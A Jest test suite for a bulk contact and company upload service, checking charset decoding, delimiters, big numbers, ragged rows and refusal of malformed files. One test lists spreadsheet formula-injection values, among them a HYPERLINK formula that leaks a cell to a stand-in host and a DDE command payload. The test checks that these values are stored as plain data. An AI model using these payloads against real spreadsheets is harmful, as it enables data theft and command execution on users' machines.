import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { decodeEntity } from '@bulk/contracts';
import { inexactNumber } from '@bulk/domain';
import { eventually } from '@bulk/testing';
import { IntakeHarness, positionsOf, type Answer } from './harness.ts';

let harness: IntakeHarness;
beforeAll(async () => {
  harness = await IntakeHarness.create();
  await harness.start();
});
afterAll(() => harness.installation.dispose());

const UPSERT = '/bulk-actions?actionType=upsert&entityType=contact';
const CSV = { 'content-type': 'text/csv' };
const NDJSON = { 'content-type': 'application/x-ndjson' };
const JSON_TYPE = { 'content-type': 'application/json' };
const GZIP = { 'content-encoding': 'gzip' };

/** Sends a file of `cases/` byte by byte. */
function send(file: string, headers: Record<string, string>, path = UPSERT): Promise<Answer> {
  return harness.upload(path, readFileSync(join(import.meta.dirname, 'cases', file)), headers);
}

type Fields = Record<string, unknown>;

/**
 * Returns the entities of an accepted upload, as the handler gets them; `ref` only if a row has
 * one.
 */
async function published({ status, body }: Answer): Promise<Fields[]> {
  expect([status, body.error]).toEqual([202, undefined]);
  const batches = await eventually('all positions', async () => {
    const found = await harness.published(String(body.data?.['actionId']));
    return positionsOf(found).length >= Number(body.data?.['total']) ? found : undefined;
  });
  return batches
    .flatMap(({ batch }) => batch.entities)
    .sort((a, b) => a.position - b.position)
    .map((entity) => {
      const { id, ref, fields, fault } = decodeEntity(entity);
      return {
        id,
        ...(fault === undefined ? {} : { fault: fault.message }),
        ...(ref === null ? {} : { ref }),
        ...(fields as Fields),
      };
    });
}

describe('a file as people really send it', () => {
  it('keeps carriage returns out of its values when rows end in CRLF and the header in LF', async () => {
    expect(await published(await send('01-lf-header-crlf-rows.csv', CSV))).toEqual([
      { id: 'mix-1', email: 'ada@example.com', lastName: 'Alder' },
      { id: 'mix-2', email: 'bo@example.com', lastName: 'Birch' },
      { id: 'mix-3', email: 'cy@example.com', lastName: 'Cedar' },
    ]);
  });

  it('is decoded as Windows-1252 when its charset says so', async () => {
    const declared = { 'content-type': 'text/csv; charset=windows-1252' };
    expect(await published(await send('03-windows-1252.csv', declared))).toEqual([
      { id: 'kd-ä7', lastName: 'Müller', city: 'Düsseldorf' },
      { id: 'kd-ö7', lastName: 'Schröder', city: 'Köln' },
      { id: 'kd-ü7', lastName: 'Grüne', city: 'Zürich – Süd' },
    ]);
  });

  it.each(['', '&delimiter=tab'])('keeps every value when it is UTF-16 with tabs (%s)', async (parameter) => {
    expect(await published(await send('04-utf16be-tab.csv', CSV, `${UPSERT}${parameter}`))).toEqual([
      { id: 'u16-1', lastName: 'Müller', city: 'Łódź' },
      { id: 'u16-2', lastName: 'Smith\t(Jr.)', city: '東京' },
    ]);
  });

  it('may name its delimiter in a line sep=;', async () => {
    expect(await published(await send('06-sep-line.csv', CSV))).toEqual([
      { id: 'sep-1', lastName: 'Elm', city: 'Graz' },
      { id: 'sep-2', lastName: 'Fir', city: 'Linz' },
    ]);
  });

  it('may write its column names in any case', async () => {
    expect(await published(await send('08b-header-case.csv', CSV))).toEqual([
      { id: 'hd-2', lastName: 'Juniper', city: 'Basel' },
    ]);
  });

  it('has those numbers marked that a double cannot hold and keeps the others', async () => {
    const path = '/bulk-actions?actionType=upsert&entityType=company';
    expect(await published(await send('17-big-numbers.ndjson', NDJSON, path))).toEqual([
      { id: 'big-1', name: 'Exact Ltd', annualRevenue: inexactNumber('9007199254740993'), employees: 12 },
      { id: 'big-2', name: 'Wide Ltd', employees: inexactNumber('9007199254740993') },
      { id: 'big-3', name: 'Fine Ltd', annualRevenue: inexactNumber('0.1234567890123456789') },
      { id: 'big-4', name: 'Huge Ltd', annualRevenue: inexactNumber('1e400') },
      { id: 'big-5', name: 'Minus Zero Ltd', annualRevenue: 0, employees: 0 },
      { id: 'big-6', name: 'Text Ltd', annualRevenue: '9007199254740993' },
      { id: 'big-7', name: 'Float Ltd', employees: 3 },
    ]);
  });

  it('fails only the ragged rows', async () => {
    const rows = await published(await send('13-ragged-rows.csv', CSV));
    expect(rows).toHaveLength(250);
    expect(rows.filter(({ fault }) => fault !== undefined).map(({ fault }) => fault)).toEqual([
      'line 41: expected 3 cells, found 2',
      'line 42: expected 3 cells, found 4; cell 4 has no column: "extra"',
      'line 201: expected 3 cells, found 1',
      expect.stringMatching(/^line 251, column "id": /),
    ]);
  });

  it('keeps ids and refs that a spreadsheet would read as formulas', async () => {
    const entities = await published(await send('25-formula-refs.ndjson', NDJSON));
    expect(entities.map(({ ref }) => ref)).toEqual([
      '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
      '@SUM(1+9)',
      '+1-1',
      '-2+3',
      '\t=1+1',
      '\r=1+1',
      "=cmd|' /C calc'!A0",
      '＝1+1',
      ' =1+1',
      'plain',
    ]);
  });

  it('may have the refs that results.ndjson writes, including null', async () => {
    expect(await published(await send('38-null-ref.ndjson', NDJSON))).toEqual([
      { id: 'rt-1', score: 12 },
      { id: 'rt-2', ref: 'r2', score: 13 },
    ]);
  });
});

describe('a file with ambiguous content', () => {
  const NAMED = /charset=windows-1252/;
  it.each<[string, Record<string, string>, string, Record<string, RegExp>]>([
    ['03-windows-1252.csv', CSV, 'INVALID_ENCODING', { 'line 2': NAMED, 'line 3': NAMED, 'line 4': NAMED }],
    ['08e-human-labels.csv', CSV, 'INVALID_HEADER', { 'column 1 "Record ID"': /did you mean "id"\?/, id: /expected a column id/ }],
    ['11b-backslash-quotes.csv', CSV, 'INVALID_ROW', { 'line 2: notes': /text after the closing quote.*each quote within it is written twice/ }],
    [
      '13-ragged-rows.csv', CSV, 'INVALID_ROW',
      {
        'line 41': /^expected 3 cells, found 2$/,
        'line 42': /^expected 3 cells, found 4; cell 4 has no column: "extra"$/,
        'line 201': /^expected 3 cells, found 1$/,
        'line 251: id': /./,
      },
    ],
    ['29d-zero-padding-then-member.csv.gz', { ...CSV, ...GZIP }, 'INVALID_GZIP', { '(body)': /nothing behind its last member/ }],
    ['33a-latin1.json', JSON_TYPE, 'INVALID_JSON', { '(body)': /UTF-8/ }],
    ['35a-deep-entity.json', JSON_TYPE, 'INVALID_REQUEST', { '(body)': /levels of nesting/ }],
  ])('is refused with every fault in its place and leaves nothing behind: %s', async (file, headers, code, faults) => {
    const before = await harness.traces();
    const { status, body } = await send(file, headers, headers === JSON_TYPE ? '/bulk-actions' : `${UPSERT}&invalidRows=refuse`);
    expect([status, body.error?.code]).toEqual([400, code]);
    const found = Object.fromEntries((body.error?.details ?? []).map(({ field, message }) => [field, message]));
    expect(found).toEqual(
      Object.fromEntries(Object.entries(faults).map(([field, message]) => [field, expect.stringMatching(message)])),
    );
    expect(await harness.traces()).toEqual(before);
  }); // prettier-ignore
});
